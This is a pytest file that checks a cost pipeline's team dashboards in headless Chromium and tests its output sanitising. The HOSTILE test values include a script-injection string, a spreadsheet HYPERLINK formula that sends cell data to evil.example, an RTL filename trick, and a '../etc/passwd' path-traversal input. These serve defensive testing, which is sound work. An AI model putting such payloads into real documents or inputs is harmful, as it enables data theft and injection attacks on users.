"""Team dashboards in headless Chromium (Debian's package, driven by Playwright) and hostile values.

The expected figures are summed here from ``allocated_costs`` with plain Polars and Decimal rounding;
the page must show the same cents after every filter change, with no console error.
"""

import json
import os
import re
import shutil
from contextlib import contextmanager
from decimal import Decimal

import polars as pl
import pytest

from cost_pipeline.lib.dashboards import Freshness, team_file_name, team_page
from cost_pipeline.lib.safe_output import csv_cell, file_stem
from cost_pipeline.lib.statement_files import render_csv, render_html, statement_file_stem

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
needs_chromium = pytest.mark.skipif(not CHROMIUM and not os.environ.get("CI"), reason="Debian's chromium is not installed (make test installs it)")
HOSTILE = {
    "script": "</script><script>alert(1)</script>",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "rtl": "cost\u202efdp.exe",
    "long": "x" * 10_000,
}


@contextmanager
def page_of(path):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync"])
        page = browser.new_page(viewport={"width": 1400, "height": 1200})
        problems, dialogs = [], []
        page.on("console", lambda m: problems.append(m.text) if m.type in ("error", "warning") else None)
        page.on("pageerror", lambda e: problems.append(str(e)))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(path.as_uri())
        page.wait_for_selector("#vis svg .mark-rect path", timeout=30_000)
        yield page, problems, dialogs
        browser.close()


def shown_total(page) -> str:
    return page.locator("svg text").filter(has_text=re.compile(r"^Total ")).first.text_content()


def cents(amount) -> str:
    return f"{Decimal(amount).quantize(Decimal('0.01')):,.2f}"


@needs_chromium
def test_team_dashboard_filters_change_every_total_to_the_exact_sum(october):
    lake = october / "lake"
    allocated = pl.scan_parquet(lake / "allocated_costs" / "date=*" / "*.parquet").filter(pl.col("team") == "fraud-detection").collect()
    month = allocated.filter(pl.col("date").dt.strftime("%Y-%m") == "2026-11")  # the page opens on the latest month
    by_project = month.group_by("project").agg(pl.col("amount").sum()).drop_nulls().sort("amount", descending=True)
    project, project_amount = by_project.row(0)
    workload_types = set(month.filter(pl.col("allocation") == "direct")["workload_type"].drop_nulls())
    with page_of(lake / "reports" / "dashboards" / "fraud-detection.html") as (page, problems, _):
        assert page.locator("#vis svg .mark-rect path").count() > 0
        legend = set(page.locator("svg .role-legend-label text").all_text_contents())
        assert workload_types and workload_types <= legend
        assert shown_total(page).startswith(f"Total {cents(month['amount'].sum())} USD")
        page.select_option("select[name=project]", label=project)
        page.wait_for_function("t => [...document.querySelectorAll('svg text')].some(e => e.textContent.startsWith(t))", arg=f"Total {cents(project_amount)} USD")
        page.select_option("select[name=month]", label="All")
        everything = allocated.filter(pl.col("project") == project)["amount"].sum()
        page.wait_for_function("t => [...document.querySelectorAll('svg text')].some(e => e.textContent.startsWith(t))", arg=f"Total {cents(everything)} USD")
        assert problems == []


def test_a_team_page_embeds_only_that_teams_rows(october):
    lake = october / "lake"
    html = (lake / "reports" / "dashboards" / "personalization.html").read_text()
    spec = json.loads(re.search(r"<script type='application/json' id='spec'>(.*?)</script>", html, re.S).group(1))
    rows = [r for values in spec["datasets"].values() for r in values]
    detail = pl.scan_parquet(lake / "team_cost_detail" / "date=*" / "*.parquet").filter(pl.col("team") == "personalization").collect()
    assert sum(r["kind"] == "team" for r in rows) == detail.height  # lines in, lines out
    assert all("team" not in r for r in rows)
    others = {"fraud-detection", "search-ranking", "forecasting", "__unattributed__"}
    strings = {v for r in rows for v in r.values() if isinstance(v, str)}
    assert not strings & others
    team_rows = [r for r in rows if r["kind"] == "team"]
    exact = sum(r["hi"] * 10**6 + r["lo"] for r in team_rows)
    assert Decimal(exact).scaleb(-12) == detail["amount"].sum()


def test_platform_page_links_every_team(october):
    html = (october / "lake" / "reports" / "dashboards" / "platform.html").read_text()
    for team in ["fraud-detection", "personalization", "search-ranking", "forecasting", "platform"]:
        assert f"href='{team}.html'" in html


def _hostile_detail() -> pl.DataFrame:
    import datetime as dt

    values = list(HOSTILE.values())
    return pl.DataFrame({
        "date": [dt.date(2026, 10, 1)] * 4,
        "team": ["fraud-detection"] * 4,
        "project": values,
        "workload_type": values,
        "environment": values,
        "experiment_id": values,
        "allocation": ["direct"] * 4,
        "pool": [None] * 4,
        "reason": [None] * 4,
        "currency": ["USD"] * 4,
        "rules_version": ["r1"] * 4,
        "amount": [Decimal("1.025"), Decimal("2"), Decimal("3"), Decimal("4")],
        "driver": [None] * 4,
    }, schema_overrides={"amount": pl.Decimal(38, 12), "pool": pl.String, "reason": pl.String, "driver": pl.String})


@needs_chromium
def test_hostile_tag_values_render_inert_in_the_dashboard(tmp_path):
    detail = _hostile_detail()
    untagged = pl.DataFrame({"month": ["2026-10"], "account_id": [HOSTILE["script"]], "reason": [HOSTILE["rtl"]], "lines": [1],
                             "amount_cents": [Decimal("1.00")], "currency": ["USD"]})
    pools = pl.DataFrame(schema={"month": pl.String, "pool": pl.String, "currency": pl.String, "amount": pl.Decimal(38, 12), "driver": pl.String})
    html = team_page("fraud-detection", detail, pools, untagged, Freshness("2026-10-01", None, 1, ["r1"]))
    assert "<script>alert" not in html and "\u202e" not in html and "x" * 200 not in html
    path = tmp_path / "fraud-detection.html"
    path.write_text(html)
    with page_of(path) as (page, problems, dialogs):
        options = page.locator("select[name=project] option").all_text_contents()
        assert HOSTILE["script"] in options  # shown as text, not run
        assert max(len(o) for o in options) <= 120
        assert shown_total(page).startswith("Total 10.02 USD")  # 10.025, half to even (half up would show 10.03)
        assert dialogs == [] and problems == []


def test_hostile_values_in_statements_and_file_names():
    detail = _hostile_detail().with_columns(month=pl.lit("2026-10"), line_type=pl.lit("direct"), ref_month=pl.lit(None, pl.String),
                                             why=pl.lit(None, pl.String), amount_cents=pl.col("amount").round(2), team_cents=pl.lit(Decimal("10.02")))
    text = render_csv(detail, {})
    assert "\n=" not in text and ",=" not in text and "'=HYPERLINK" in text
    assert "\u202e" not in text and "x" * 1001 not in text
    page = render_html(detail, {}, "showback", None, "r1")
    assert "<script>" not in page and "&lt;/script&gt;&lt;script&gt;alert(1)" in page
    for cell, expected in [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("plain", "plain")]:
        assert csv_cell(cell) == expected
    for bad in ["../etc/passwd", "a/b", "", ".hidden", "Team", HOSTILE["script"], HOSTILE["long"]]:
        with pytest.raises(ValueError, match="refusing"):
            file_stem(bad)
        with pytest.raises(ValueError):
            team_file_name(bad)
    assert statement_file_stem("__unattributed__") == "unattributed"
